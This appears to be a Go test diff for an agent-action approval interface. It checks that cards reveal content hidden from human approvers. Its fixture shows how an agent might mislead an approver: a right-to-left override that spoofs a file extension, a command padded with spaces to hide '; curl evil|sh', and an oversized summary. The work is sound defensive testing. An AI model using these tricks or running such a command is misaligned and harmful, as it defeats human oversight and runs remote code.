@@ -157,7 +157,8 @@ func TestCardTemplateConflict(t *testing.T) {
 
 func TestDetailTemplate(t *testing.T) {
 	t.Parallel()
-	card := cardView(sampleApproval(), viewer, fixedNow, "")
+	a := sampleApproval()
+	card := detailCardView(a, a.Arguments, a.ArgumentDigests, viewer, fixedNow)
 	card.CSRF, card.Back = "token", card.DetailURL()
 	evs := timelineView([]service.Event{
 		{ID: 1, Type: service.EventRunSubmitted, Payload: []byte(`{"agent_id":"a"}`), CreatedAt: fixedNow.Add(-2 * time.Minute)},
@@ -176,6 +177,87 @@ func TestDetailTemplate(t *testing.T) {
 	}
 	if got := byTestID(t, doc, "status"); len(got) != 1 || text(got[0]) != "pending" {
 		t.Errorf("status: %v", got)
+	}
+}
+
+// hostileApproval is what an agent proposes to mislead its approver: a
+// right-to-left override in a file name, a command padded past the card's
+// 512 characters, a 5,000-character summary and a key that only looks
+// sensitive.
+func hostileApproval() (a service.Approval, whole map[string]any) {
+	a = sampleApproval()
+	a.ActionSummary = "Tidy the build directory" + strings.Repeat(", and nothing else", 280) + "."
+	whole = map[string]any{
+		"file":          "invoice\u202Efdp.exe",
+		"command":       "ls" + strings.Repeat(" ", 600) + "; curl evil|sh",
+		"session_title": "Quarterly planning",
+		"token":         "hunter2",
+	}
+	a.Arguments, a.ArgumentDigests = engine.RedactedView(whole)
+	return a, whole
+}
+
+func TestCardMakesHiddenThingsVisible(t *testing.T) {
+	t.Parallel()
+	a, _ := hostileApproval()
+	card := cardView(a, viewer, fixedNow, "")
+	card.CSRF, card.Back = "token", "/"
+	doc := render(t, templates.CardView(card))
+	golden(t, "card_hostile.html", doc)
+
+	args := map[string]string{}
+	for _, n := range byTestID(t, doc, "argument") {
+		args[attr(n, "data-name")] = text(n)
+	}
+	for name, want := range map[string]string{
+		"file":          "invoice⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩fdp.exe",
+		"command":       "ls⟨510 spaces⟩104 more characters not shown",
+		"session_title": "Quarterly planning",
+		"token":         "[REDACTED: 7 characters]",
+	} {
+		if !strings.Contains(args[name], want) {
+			t.Errorf("argument %s shows %q, want it to contain %q", name, args[name], want)
+		}
+	}
+	if bytes.ContainsRune(doc, '\u202E') {
+		t.Error("the card carries a raw right-to-left override")
+	}
+	if links := byTestID(t, doc, "show-whole-value"); len(links) != 1 || attr(links[0], "href") != card.DetailURL()+"#arguments" {
+		t.Errorf("no link to the whole value: %v", links)
+	}
+	sum := byTestID(t, doc, "card-summary")
+	if len(sum) != 1 || !strings.Contains(attr(sum[0], "class"), "clamp") {
+		t.Fatalf("the 5,000-character summary is not clamped: %v", sum)
+	}
+	more := byTestID(t, doc, "summary-more")
+	if len(more) != 1 || more[0].Data != "details" || !strings.Contains(text(more[0]), a.ActionSummary) {
+		t.Fatal("the clamped summary cannot be expanded without JavaScript")
+	}
+	if got := attr(byTestID(t, doc, "approval-card")[0], "data-summary"); len([]rune(got)) > 121 {
+		t.Errorf("the confirm dialog's summary is %d characters", len([]rune(got)))
+	}
+}
+
+func TestDetailShowsTheWholeValue(t *testing.T) {
+	t.Parallel()
+	a, whole := hostileApproval()
+	args, digests := engine.RedactedDetail(whole)
+	card := detailCardView(a, args, digests, viewer, fixedNow)
+	doc := render(t, templates.CardView(card))
+	var command string
+	for _, n := range byTestID(t, doc, "argument") {
+		if attr(n, "data-name") == "command" {
+			command = text(n)
+		}
+	}
+	if command != "command"+"ls⟨600 spaces⟩; curl evil|sh" {
+		t.Errorf("the detail page shows the command as %q", command)
+	}
+	if len(byTestID(t, doc, "argument-hidden")) != 0 || len(byTestID(t, doc, "summary-more")) != 0 {
+		t.Error("the detail page still hides part of a value or of the summary")
+	}
+	if sum := byTestID(t, doc, "card-summary"); strings.Contains(attr(sum[0], "class"), "clamp") {
+		t.Error("the detail page clamps the summary")
 	}
 }
 
